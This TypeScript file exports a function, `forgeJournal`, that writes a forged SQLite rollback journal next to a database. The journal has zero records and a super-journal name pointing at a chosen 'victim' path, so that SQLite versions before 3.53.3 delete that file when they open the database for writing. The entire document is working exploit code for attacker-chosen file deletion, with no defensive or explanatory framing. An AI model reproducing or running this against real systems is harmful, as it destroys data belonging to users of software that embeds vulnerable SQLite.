// A rollback journal as nobody's crash leaves it: it asks SQLite to change nothing, and names a file that is to be
// deleted once that is done.

import { readFileSync, writeFileSync } from 'node:fs';

/** Writes `STUDY-journal`; a SQLite before 3.53.3 that opens the study for writing deletes `victim`. */
export function forgeJournal(study: string, victim: string): string {
  const database = readFileSync(study);
  const pageBytes = database.readUInt16BE(16) === 1 ? 65536 : database.readUInt16BE(16);
  const magic = Buffer.from('d9d505f920a163d7', 'hex');
  const header = Buffer.alloc(512);
  magic.copy(header);
  header.writeUInt32BE(0, 8); // records
  header.writeUInt32BE(0, 12); // nonce
  header.writeUInt32BE(database.length / pageBytes, 16);
  header.writeUInt32BE(512, 20); // sector
  header.writeUInt32BE(pageBytes, 24);
  const name = Buffer.from(victim);
  const tail = Buffer.alloc(12);
  tail.writeUInt32BE(Math.floor(0x40000000 / pageBytes) + 1); // the page of the lock, which no record is of
  tail.writeUInt32BE(name.length, 4);
  tail.writeUInt32BE(
    name.reduce((sum, byte) => sum + ((byte << 24) >> 24), 0),
    8,
  );
  const journal = `${study}-journal`;
  writeFileSync(journal, Buffer.concat([header, tail.subarray(0, 4), name, tail.subarray(4), magic]));
  return journal;
}
